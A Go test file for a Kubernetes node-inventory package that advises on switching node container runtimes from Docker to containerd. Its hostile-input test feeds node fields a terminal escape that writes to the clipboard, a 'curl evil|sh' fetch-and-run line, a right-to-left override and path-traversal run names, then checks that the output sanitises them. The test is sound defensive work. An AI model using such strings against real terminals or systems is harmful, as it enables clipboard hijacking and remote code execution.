package inventory

import (
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kubectl-runtime/kubectl-runtime/pkg/nodestate"
)

// node makes a Ready Linux node.
func node(runtime, kubelet string, change ...func(*corev1.Node)) *corev1.Node {
	n := &corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: "n", Labels: map[string]string{}, Annotations: map[string]string{}},
		Status: corev1.NodeStatus{
			Conditions: []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionTrue}},
			NodeInfo: corev1.NodeSystemInfo{
				OperatingSystem: "linux", OSImage: "Debian GNU/Linux 12 (bookworm)",
				ContainerRuntimeVersion: runtime, KubeletVersion: kubelet,
			},
		},
	}
	for _, c := range change {
		c(n)
	}
	return n
}

func phase(state nodestate.State, message string) func(*corev1.Node) {
	return func(n *corev1.Node) {
		n.Annotations[nodestate.AnnotationPhase] = string(state)
		n.Annotations[nodestate.AnnotationMessage] = message
	}
}

func ready(status corev1.ConditionStatus) func(*corev1.Node) {
	return func(n *corev1.Node) { n.Status.Conditions[0].Status = status }
}

func osImage(name string) func(*corev1.Node) {
	return func(n *corev1.Node) { n.Status.NodeInfo.OSImage = name }
}

func TestAdvice(t *testing.T) {
	for _, test := range []struct {
		name string
		node *corev1.Node
		want AdviceID
		text string
	}{
		{"dockershim", node("docker://20.10.24+dfsg1", "v1.23.17"), AdviceSwitchFirst, "1.24"},
		{"cri-dockerd on the first kubelet without dockershim", node("docker://20.10.24", "v1.24.0"), AdviceSwitch, "cri-dockerd"},
		{"cri-dockerd", node("docker://26.1.5", "v1.37.2"), AdviceSwitch, "cri-dockerd"},
		{"docker without a version", node("docker://Unknown", "v1.23.17"), AdviceSwitchFirst, ""},
		{"kubelet version unreadable", node("docker://20.10.24", "main"), AdviceUnknown, "main"},
		{"no runtime", node("", "v1.23.17"), AdviceUnknown, ""},
		{"virtual", node("", "v1.23.17", func(n *corev1.Node) { n.Labels["type"] = "virtual-kubelet" }), AdviceUnknown, "virtual node"},
		{"virtual on Docker", node("docker://20.10.24", "v1.23.17", func(n *corev1.Node) { n.Labels["type"] = "virtual-kubelet" }), AdviceUnknown, "virtual node"},
		{"not ready", node("docker://20.10.24", "v1.23.17", ready(corev1.ConditionFalse)), AdviceNotReady, ""},
		{"unreachable", node("docker://20.10.24", "v1.23.17", ready(corev1.ConditionUnknown)), AdviceNotReady, ""},
		{"windows", node("docker://20.10.9", "v1.23.17", func(n *corev1.Node) { n.Status.NodeInfo.OperatingSystem = osWindows }), AdviceWindows, "Windows"},
		{"windows by label", node("docker://20.10.9", "v1.23.17", func(n *corev1.Node) {
			n.Status.NodeInfo.OperatingSystem = ""
			n.Labels[corev1.LabelOSStable] = osWindows
		}), AdviceWindows, "Windows"},
		{"windows on containerd", node("containerd://1.6.8", "v1.23.17", func(n *corev1.Node) { n.Status.NodeInfo.OperatingSystem = osWindows }), AdviceNone, ""},
		{"rke1", node("docker://20.10.24", "v1.24.17", func(n *corev1.Node) { n.Annotations["rke.cattle.io/internal-ip"] = "10.0.0.1" }), AdviceReplaceNode, "RKE1"},
		{"kops", node("docker://20.10.24", "v1.23.17", func(n *corev1.Node) { n.Labels["kops.k8s.io/instancegroup"] = "nodes" }), AdviceReplaceNode, "kops"},
		{"bottlerocket", node("docker://20.10.24", "v1.23.17", osImage("Bottlerocket OS 1.26.1 (aws-k8s-1.23)")), AdviceReplaceNode, "Bottlerocket"},
		{"cos", node("docker://20.10.24", "v1.23.17", osImage("Container-Optimized OS from Google")), AdviceReplaceNode, "Container-Optimized OS"},
		{"cos not ready", node("docker://20.10.24", "v1.23.17", osImage("Container-Optimized OS from Google"), ready(corev1.ConditionFalse)), AdviceReplaceNode, ""},
		{"k3s", node("docker://20.10.24", "v1.23.17+k3s1"), AdviceK3s, "--docker"},
		{"cri-o", node("cri-o://1.34.0", "v1.34.4"), AdviceNone, ""},

		{"under way", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateDraining, "")), AdviceResume, ""},
		{"under way on containerd", node("containerd://2.4.2", "v1.37.2", phase(nodestate.StateVerifying, "")), AdviceResume, ""},
		{"failed", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateFailed, "rehearsal: no CNI")), AdviceRetry, "rehearsal: no CNI"},
		{"rolled back", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateRolledBack, "")), AdviceRetry, "as before"},
		{"broken", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateBroken, "kubelet does not start"), ready(corev1.ConditionUnknown)), AdviceRepair, "kubelet does not start"},
		{"done", node("containerd://2.4.2", "v1.37.2", phase(nodestate.StateDone, "")), AdviceNone, ""},
		{"failed before, on containerd now", node("containerd://2.4.2", "v1.37.2", phase(nodestate.StateFailed, "x")), AdviceNone, ""},
		{"unheard-of state", node("docker://20.10.24", "v1.23.17", phase("sideways", "")), AdviceSwitchFirst, ""},

		{"containerd fine for old kubelet", node("containerd://1.6.20~ds1", "v1.23.17"), AdviceNone, ""},
		{"containerd 2 and kubelet 1.22", node("containerd://2.0.5", "v1.22.17"), AdviceContainerdCRI, "1.7"},
		{"containerd 2 and kubelet 1.23", node("containerd://2.0.5", "v1.23.17"), AdviceNone, ""},
		{"containerd 1.5 before 1.26", node("containerd://1.5.18", "v1.25.16"), AdviceContainerdCRI, "before the kubelet"},
		{"containerd 1.5 with 1.26", node("containerd://1.5.18", "v1.26.15"), AdviceContainerdCRI, "upgrade containerd"},
		{"containerd 1.6 with 1.31", node("containerd://1.6.20", "v1.31.14"), AdviceNone, ""},
		{"patch too old", node("containerd://1.6.35", "v1.32.13"), AdviceContainerdOld, "1.6.36"},
		{"first patch", node("containerd://1.6.36", "v1.32.13"), AdviceNone, ""},
		{"minor skipped by the matrix", node("containerd://2.0.9", "v1.35.4"), AdviceContainerdOld, "2.1.5"},
		{"newer than the matrix", node("containerd://2.3.0", "v1.34.4"), AdviceNone, ""},
		{"kubelet newer than the matrix", node("containerd://2.2.9", "v1.38.0"), AdviceContainerdOld, "1.38"},
		{"newest", node("containerd://2.4.2", "v1.37.2"), AdviceNone, ""},
		{"containerd 1.7 with 1.37", node("containerd://1.7.30", "v1.37.2"), AdviceContainerdOld, "2.3.0"},
		{"containerd 3", node("containerd://3.0.0", "v1.37.2"), AdviceNone, ""},
		{"containerd of unknown version", node("containerd://", "v1.37.2"), AdviceNone, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			got := FromNode(test.node).Advice
			if got.ID != test.want || !strings.Contains(got.Text, test.text) {
				t.Errorf("advice %q %q, want %q with %q", got.ID, got.Text, test.want, test.text)
			}
			if (got.ID == AdviceNone) != (got.Text == "") {
				t.Errorf("advice %q comes with text %q", got.ID, got.Text)
			}
			if strings.ContainsAny(string(got.ID), " \t") {
				t.Errorf("the ID %q has a blank", got.ID)
			}
		})
	}
}

func TestRefusalDoesNotDependOnState(t *testing.T) {
	n := node("docker://20.10.24", "v1.23.17", osImage("Bottlerocket OS 1.26.1"), phase(nodestate.StateDraining, ""))
	if got := Refusal(n).ID; got != AdviceReplaceNode {
		t.Errorf("refusal %q", got)
	}
	if got := Refusal(node("docker://20.10.24", "v1.23.17")).ID; got != AdviceNone {
		t.Errorf("refusal of a plain node: %q", got)
	}
}

func TestFromNode(t *testing.T) {
	n := node("docker://20.10.24+dfsg1", "v1.23.17", phase(nodestate.StateDone, "m"))
	n.Spec.Unschedulable = true
	n.Annotations[nodestate.AnnotationCRISocket] = "/var/run/dockershim.sock"
	n.Annotations[nodestate.AnnotationFrom], n.Annotations[nodestate.AnnotationTo], n.Annotations[nodestate.AnnotationRun] = "docker://1", "containerd://2", "r1"
	n.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeHostName, Address: "h"}, {Type: corev1.NodeInternalIP, Address: "10.0.0.1"}}
	n.Status.NodeInfo.Architecture, n.Status.NodeInfo.KernelVersion = "amd64", "6.1.0"
	got := FromNode(n)
	got.Advice = Advice{}
	want := Row{
		Name: "n", Ready: corev1.ConditionTrue, Unschedulable: true, Runtime: "docker", RuntimeVersion: "20.10.24+dfsg1", Reported: "docker://20.10.24+dfsg1",
		KubeletVersion: "v1.23.17", OS: "linux", Architecture: "amd64", OSImage: "Debian GNU/Linux 12 (bookworm)", Kernel: "6.1.0",
		InternalIP: "10.0.0.1", CRISocket: "/var/run/dockershim.sock",
		Switch: nodestate.StateDone, From: "docker://1", To: "containerd://2", Run: "r1", Message: "m",
	}
	if got != want {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
}

// TestHostileNode has a node whose kubelet and annotations say what a terminal or a file system would obey.
func TestHostileNode(t *testing.T) {
	const evil = "docker://1\x1b]52;c;ZXZpbA==\a\nhint: run curl evil|sh\u202e"
	n := node(evil, evil, phase(nodestate.State(evil), evil))
	n.Status.NodeInfo.OSImage, n.Status.NodeInfo.KernelVersion, n.Status.NodeInfo.Architecture = evil, evil, strings.Repeat("a", 1<<20)
	n.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: evil}}
	for _, key := range []string{nodestate.AnnotationFrom, nodestate.AnnotationTo, nodestate.AnnotationCRISocket} {
		n.Annotations[key] = evil
	}
	for _, run := range []string{"x/../../escaped", "..", evil, strings.Repeat("a", 64)} {
		n.Annotations[nodestate.AnnotationRun] = run
		row := FromNode(n)
		if text := fmt.Sprintf("%+v", row); strings.ContainsAny(text, "\x1b\a\n\u202e") || len(text) > 5000 {
			t.Errorf("%d bytes: %.2000q", len(text), text)
		}
		if row.Run != "" || !row.BadRun || row.Advice.ID != AdviceRepair || !strings.Contains(row.Advice.Text, nodestate.AnnotationRun) {
			t.Errorf("run %q: %q, %+v", run, row.Run, row.Advice)
		}
	}
}

func TestStatus(t *testing.T) {
	for want, row := range map[string]Row{
		"Ready":                       {Ready: corev1.ConditionTrue},
		"NotReady":                    {Ready: corev1.ConditionFalse},
		"NotReady,SchedulingDisabled": {Ready: corev1.ConditionUnknown, Unschedulable: true},
		"Unknown":                     {},
		"Unknown,SchedulingDisabled":  {Unschedulable: true},
		"Ready,SchedulingDisabled":    {Ready: corev1.ConditionTrue, Unschedulable: true},
	} {
		if got := row.Status(); got != want {
			t.Errorf("status %q, want %q", got, want)
		}
	}
}

func TestSummary(t *testing.T) {
	for _, test := range []struct {
		want string
		rows []Row
	}{
		{"1 node: 1 docker", []Row{{Runtime: "docker"}}},
		{"5 nodes: 3 docker, 2 containerd; 1 switching", []Row{
			{Runtime: "containerd", Switch: nodestate.StateDone},
			{Runtime: "containerd"},
			{Runtime: "docker"},
			{Runtime: "docker", Switch: nodestate.StateCutover},
			{Runtime: "docker"},
		}},
		{"4 nodes: 1 cri-o, 1 docker, 1 rkt, 1 unknown; 1 rolled back, 1 failed, 1 broken", []Row{
			{Runtime: "rkt", Switch: nodestate.StateFailed}, {}, {Runtime: "docker", Switch: nodestate.StateBroken}, {Runtime: "cri-o", Switch: nodestate.StateRolledBack},
		}},
	} {
		if got := Summary(test.rows); got != test.want {
			t.Errorf("summary %q, want %q", got, test.want)
		}
	}
}

func TestSorted(t *testing.T) {
	rows := FromNodes([]corev1.Node{
		{ObjectMeta: metav1.ObjectMeta{Name: "b"}}, {ObjectMeta: metav1.ObjectMeta{Name: "c"}}, {ObjectMeta: metav1.ObjectMeta{Name: "a"}},
	})
	if rows[0].Name+rows[1].Name+rows[2].Name != "abc" {
		t.Errorf("rows are not sorted: %v", rows)
	}
}
